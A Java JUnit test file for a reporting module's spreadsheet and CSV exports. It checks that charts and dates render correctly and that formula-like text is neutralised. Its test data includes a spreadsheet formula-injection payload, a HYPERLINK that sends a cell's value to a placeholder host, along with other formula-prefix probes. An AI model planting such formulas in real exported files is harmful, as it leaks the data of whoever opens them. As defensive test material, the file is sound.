package org.sportello.reporting;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFChart;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The export files as a spreadsheet reads them: the workbook opens with POI, has its
 * native chart, real dates and no formula where the data had text that looks like one;
 * the CSV reads back to the same values (after the apostrophe that disarms formulas).
 */
class ReportFilesTests {

	static final ReportLabels LABELS = new ReportLabels() {
		@Override
		public String text(String key, Object... params) {
			return key;
		}

		@Override
		public Locale locale() {
			return Locale.ITALIAN;
		}
	};

	static final String FORMULA = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Clicca\")";

	static final List<Object> ROW = Arrays.asList(LocalDate.of(2031, 5, 30), 9, "Telefono", FORMULA, "+39 come numero",
			"-1", "@SUM(A1)", "\tTab", "\rCR", "a;b \"tra virgolette\"\nsu due righe", null, 42L);

	@Test
	void theWorkbookHasTheChartRealDatesAndNoFormula() throws IOException {
		ReportWorkbook workbook = new ReportWorkbook(LABELS);
		Figures may = new Figures("203105", null, 5, 3, 3, 1, 3, 135, 5385, 3, 0, 2, 0, 1, 3, 120);
		Figures june = new Figures("203106", null, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0);
		workbook.summary(new ReportFilter(LocalDate.of(2031, 5, 1), LocalDate.of(2031, 6, 30), null), FORMULA, may,
				List.of(may, june), (label) -> label);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		List<Long> progress = new ArrayList<>();
		workbook.write(List.of("a", "b"), List.of(ROW, ROW).iterator(), progress::add, out);
		assertThat(progress).containsExactly(2L);

		try (XSSFWorkbook read = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
			XSSFSheet summary = read.getSheetAt(0);
			List<XSSFChart> charts = summary.getDrawingPatriarch().getCharts();
			assertThat(charts).hasSize(1);
			assertThat(charts.get(0).getChartSeries()).singleElement()
				.satisfies((bars) -> assertThat(bars.getSeriesCount()).isEqualTo(3));
			assertThat(summary.getRow(1).getCell(1).getLocalDateTimeCellValue().toLocalDate())
				.isEqualTo(LocalDate.of(2031, 5, 1));
			assertNotAFormula(summary.getRow(2).getCell(1));

			Sheet cases = read.getSheetAt(1);
			assertThat(cases.getLastRowNum()).isEqualTo(2);
			Cell opened = cases.getRow(1).getCell(0);
			assertThat(DateUtil.isCellDateFormatted(opened)).isTrue();
			assertThat(opened.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2031, 5, 30));
			assertThat(cases.getRow(1).getCell(1).getNumericCellValue()).isEqualTo(9);
			for (int column = 3; column <= 9; column++) {
				assertNotAFormula(cases.getRow(1).getCell(column));
				assertThat(cases.getRow(1).getCell(column).getStringCellValue()).isEqualTo(ROW.get(column));
			}
			assertThat(cases.getRow(1).getCell(10)).isNull();
			assertThat(cases.getRow(1).getCell(11).getNumericCellValue()).isEqualTo(42);
		}
	}

	@Test
	void theCsvReadsBackToTheSameValues() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		ReportExports.csv(List.of("Aperta il", "-meno"), List.of(ROW).iterator(), (written) -> {
		}, out);
		byte[] bytes = out.toByteArray();
		assertThat(Arrays.copyOf(bytes, 3)).as("UTF-8 byte order mark")
			.containsExactly((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);

		CsvMapper csv = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
		String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
		List<String[]> rows = new ArrayList<>();
		try (MappingIterator<String[]> read = csv.readerFor(String[].class)
			.with(CsvSchema.emptySchema().withColumnSeparator(';'))
			.readValues(text)) {
			read.forEachRemaining(rows::add);
		}
		assertThat(rows).hasSize(2);
		assertThat(rows.get(0)).containsExactly("Aperta il", "'-meno");
		List<String> expected = new ArrayList<>();
		for (Object value : ROW) {
			String plain = (value == null) ? "" : value.toString();
			expected.add(SafeText.looksLikeFormula(plain) ? "'" + plain : plain);
		}
		assertThat(rows.get(1)).containsExactlyElementsOf(expected);
		assertThat(rows.get(1)[3]).startsWith("'=HYPERLINK");
		assertThat(rows.get(1)[0]).isEqualTo("2031-05-30");
	}

	private static void assertNotAFormula(Cell cell) {
		assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
		assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
	}

}
